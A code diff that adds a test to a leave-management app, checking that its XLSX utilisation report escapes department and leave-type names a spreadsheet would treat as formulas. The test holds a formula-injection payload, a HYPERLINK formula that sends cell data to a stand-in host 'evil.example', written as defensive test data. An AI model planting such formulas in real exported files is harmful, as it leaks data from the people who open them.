@@ -12,7 +12,7 @@ import type {
 import { auditEntries } from '../../db/schema/audit';
 import { leaveAdjustments, leaveEntitlements, leaveRequests } from '../../db/schema/leave';
 import { leaveCarryForwardRuns } from '../../db/schema/leave-admin';
-import { leaveTypes, publicHolidays } from '../../db/schema/organisation';
+import { departments, leaveTypes, publicHolidays } from '../../db/schema/organisation';
 import { createTestApp, type TestContext } from '../../test/app';
 import {
   NOT_ADMIN,
@@ -780,5 +780,27 @@ describe('utilisation report', () => {
     expect(sheet.getRow(2).values).toEqual([undefined, 'HR', 'Human Resources', 'LVE0001', 'Annual Leave', 1, 0, 2]);
     const bad = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?lang=fr');
     expect(bad.json()).toMatchObject({ field: 'lang' });
+  });
+
+  it('writes a name a spreadsheet would run as a formula as guarded text (docs/product/files-mail-logs.md §4)', async () => {
+    const ctx = await setup();
+    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
+    // An HR admin names departments and leave types.
+    const department = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    await ctx.database.db.update(departments).set({ name: department }).where(eq(departments.code, 'HR'));
+    await ctx.database.db.update(leaveTypes).set({ name: '\t-2+3' }).where(eq(leaveTypes.id, 'LVE0001'));
+    const response = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2027');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    expect(workbook.worksheets[0]!.getRow(2).values).toEqual([
+      undefined,
+      'HR',
+      `'${department}`,
+      'LVE0001',
+      "'\t-2+3",
+      1,
+      0,
+      2,
+    ]);
   });
 });
